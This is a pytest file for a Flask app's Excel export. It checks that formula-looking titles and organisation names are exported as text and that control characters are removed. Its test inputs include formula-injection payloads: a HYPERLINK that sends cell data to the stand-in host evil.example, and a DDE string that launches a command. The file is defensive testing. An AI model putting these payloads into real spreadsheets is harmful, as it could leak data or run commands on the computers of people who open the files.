"""The Excel export: every cell is data (never a formula), and rows stored before input was checked still export."""
from __future__ import annotations

import re
import zipfile
from io import BytesIO

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import update

from engine.models import Application, Organization
from engine.scenario import Scenario
from tests.web import flows
from tests.web.conftest import login_as

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def export(client: FlaskClient) -> bytes:
    response = client.get("/applications/export.xlsx")
    assert response.status_code == 200, response.status_code
    return response.data


def set_title(play: Scenario, app_id: int, title: str) -> None:
    """Write a title straight into the database, as rows stored by an older release may hold it."""
    with play.runtime.sessions.begin() as session:
        session.execute(update(Application).where(Application.id == app_id).values(title=title))


@pytest.mark.parametrize("title", FORMULAS)
def test_text_that_looks_like_a_formula_is_exported_as_text(client: FlaskClient, play: Scenario,
                                                            calls: dict[str, int], title: str) -> None:
    app_id = flows.submitted(play, calls, title=title)  # typed into the application form
    with play.runtime.sessions.begin() as session:
        org = play.application(app_id).organization_id
        session.execute(update(Organization).where(Organization.id == org).values(name="=1+2"))
    for user in ("officer", "founder", "liuzhou"):
        login_as(client, user)
        data = export(client)
        xml = sheet_xml(data)
        assert "<f>" not in xml and "<f " not in xml, user
        sheet = load_workbook(BytesIO(data)).active
        assert sheet is not None
        row = next(sheet.iter_rows(min_row=2, max_row=2))
        assert row[0].value == app_id and row[0].data_type == "n"
        assert row[1].value == title.lstrip("\t\r")  # the form trims blanks around the title
        assert row[1].data_type == "s" and row[3].data_type == "s" and row[3].value == "=1+2"
        assert all(cell.data_type != "f" for cell in row)


def test_control_characters_in_stored_rows_are_left_out_of_the_export(client: FlaskClient, play: Scenario,
                                                                      calls: dict[str, int]) -> None:
    app_id = flows.submitted(play, calls)
    set_title(play, app_id, "新能源\x01电驱\x1b团队\x7f")
    for user in ("officer", "founder", "liuzhou"):
        login_as(client, user)
        sheet = load_workbook(BytesIO(export(client))).active
        assert sheet is not None
        titles = [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)]
        assert titles == ["新能源电驱团队"], user
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", sheet_xml(export(client)))
